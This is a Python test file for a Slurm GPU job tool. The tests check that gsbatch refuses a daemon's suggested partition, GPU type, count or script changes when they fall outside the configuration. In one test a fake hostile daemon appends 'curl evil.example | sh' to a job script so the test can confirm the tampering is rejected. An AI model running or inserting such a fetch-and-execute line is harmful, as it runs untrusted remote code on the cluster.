"""A daemon's answer is checked against the config before gsbatch applies any of it."""

from __future__ import annotations

import copy
import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from test_serve import SAMPLE, daemon, socket_dir

from slurmgpu.apps import gsbatch, serve
from slurmgpu.pipeline.config import Config, load_config
from slurmgpu.pipeline.validate import check_decision, check_plan

MOVE = "#!/bin/bash\n#SBATCH -p gpu-small --gres=gpu:a100:1\nsrun train.py\n"  # rules: a100 is in gpu


@pytest.fixture(scope="module")
def config() -> Config:
    return load_config(SAMPLE)


def request(gpu_type: str | None = "a100", total: int = 1, partition: str | None = "gpu", nodes: int = 1) -> dict:
    comp = {"gpu_type": gpu_type, "gpus_total": total, "partition": partition, "nodes": nodes, "nodes_max": None}
    return {**comp, "components": [comp]}


def change(**fields: object) -> dict:
    return {"changed": True, "refused": None, "changes": [{"index": 0, "gpu_type": None, "gpus_total": None,
                                                           "partition": None, **fields}]}


@pytest.mark.parametrize(("decision", "original", "why"), [
    (change(gpu_type="h100", gpus_total=100000), request(), "h100"),
    (change(gpus_total=100000), request(), "100000 GPUs exceed the 4 partition gpu has per node"),
    (change(gpus_total=0), request(), "not a positive whole number"),
    (change(gpus_total=True), request(), "not a positive whole number"),
    (change(partition="debug"), request(), "partition 'debug' is not in the slurmgpu config"),
    (change(gpu_type="t4"), request(), "GPU type t4 is not offered in partition gpu"),
    (change(partition="gpu-small"), request(), "does not offer the job's GPU type a100"),
    (change(gpu_type="t4", partition="gpu"), request(), "not offered in partition gpu"),
    (change(gpus_total=2), request(partition="nowhere"), "not in the slurmgpu config"),
    ({"changes": "all"}, request(), "not a list"),
    ([], request(), "not an object"),
    ({"changes": [{"index": -1}]}, request(), "not a component"),
])
def test_answers_that_are_not_applied(config: Config, decision: object, original: dict, why: str) -> None:
    problem = check_decision(decision, config, original)
    assert problem is not None and why in problem, problem


@pytest.mark.parametrize(("decision", "original"), [
    (change(gpu_type="v100", gpus_total=2), request(total=4)),
    (change(gpu_type="t4", partition="gpu-small"), request()),
    (change(partition="gpu"), request(gpu_type="v100", partition="gpu-small")),
    (change(gpus_total=4), request(total=8, nodes=1)),
    ({"changes": [], "refused": "asks for 9 GPUs per node"}, request()),
])
def test_answers_that_are_applied(config: Config, decision: dict, original: dict) -> None:
    assert check_decision(decision, config, original) is None


def test_a_partition_the_job_may_not_use_is_refused(config: Config) -> None:
    def admits(name: str) -> str | None:
        return "account ml not in AllowAccounts of partition gpu-small" if name == "gpu-small" else None

    problem = check_decision(change(gpu_type="t4", partition="gpu-small"), config, request(), admits)
    assert problem and "AllowAccounts" in problem


@contextmanager
def hostile(path: str, plan: dict) -> Iterator[list[bytes]]:
    """A stand-in daemon that answers every plan request with ``plan``."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(8)
    listener.settimeout(0.05)
    stop, seen = threading.Event(), []

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                seen.append(conn.makefile("rb").readline())
                conn.sendall(json.dumps({"ok": True, "plan": plan}).encode() + b"\n")

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        stop.set()
        thread.join()
        listener.close()
        os.unlink(path)


def test_gsbatch_keeps_the_request_when_the_daemon_answers_out_of_bounds(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from test_gsbatch import Recorder

    directory = socket_dir()
    sock = os.path.join(directory, "slurmgpu.sock")
    script = tmp_path / "job.sh"
    script.write_text(MOVE)
    env = {"SLURMGPU_CONFIG": str(SAMPLE), "SLURMGPU_SUBMISSION_SPOOL": str(tmp_path), "SLURMGPU_SOCKET": sock,
           "XDG_CACHE_HOME": str(tmp_path / "cache"), "USER": "root"}
    try:
        with daemon(sock, serve.Service(load_config(SAMPLE))):  # an honest daemon's plan, to tamper with
            reply = serve.call(sock, {"op": "plan", "config": str(SAMPLE), "script": MOVE,
                                      "script_name": str(script), "options": [], "env": {}})
        assert reply and reply["ok"]
        honest = reply["plan"]
        assert honest["decision"]["changes"][0]["partition"] == "gpu"
        tampered = []
        for edit in ("partition", "type", "count", "command", "option"):
            bad = copy.deepcopy(honest)
            if edit == "partition":
                bad["decision"]["changes"][0]["partition"] = "debug"
                bad["submission"]["script_text"] = MOVE.replace("-p gpu-small", "--partition=debug")
            elif edit == "type":
                bad["decision"]["changes"][0]["gpu_type"] = "h100"
            elif edit == "count":
                bad["decision"]["changes"][0]["gpus_total"] = 100000
            elif edit == "command":
                bad["submission"]["script_text"] += "curl evil.example | sh\n"
            else:
                bad["submission"]["cli_words"] = ["--exclusive"]
            tampered.append(bad)
        for bad in [honest, *tampered]:
            backend = Recorder()
            with hostile(sock, bad) as seen:
                code = gsbatch.main([str(script)], env=env, backend=backend)
            err = capsys.readouterr().err
            assert code == 0 and len(seen) == 1 and '"user"' not in seen[0].decode()
            submitted = backend.calls[0]
            if bad is honest:
                assert "--partition=gpu" in submitted["content"].decode() and "warning" not in err
                continue
            assert submitted["words"] == [str(script)] and submitted["content"].decode() == MOVE, submitted
            warnings = [line for line in err.splitlines() if "warning" in line]
            assert len(warnings) == 1 and "answer not applied" in warnings[0], err
    finally:
        import shutil

        shutil.rmtree(directory, ignore_errors=True)


def test_check_plan_passes_the_honest_daemons_plans(config: Config) -> None:
    service = serve.Service(config)
    for text, options in ((MOVE, []), ("#!/bin/bash\n#SBATCH --gres=gpu:a100:1\nsrun x\n", ["-p", "gpu-small"]),
                          ("#!/bin/bash\n#SBATCH -p gpu --gres=gpu:a100:2\nsrun x\n", [])):
        reply = service.handle(json.dumps({"op": "plan", "config": str(SAMPLE), "script": text, "script_name": "j.sh",
                                           "options": options, "env": {}}).encode())
        assert reply["ok"] and check_plan(reply["plan"], config, text, options) is None, reply
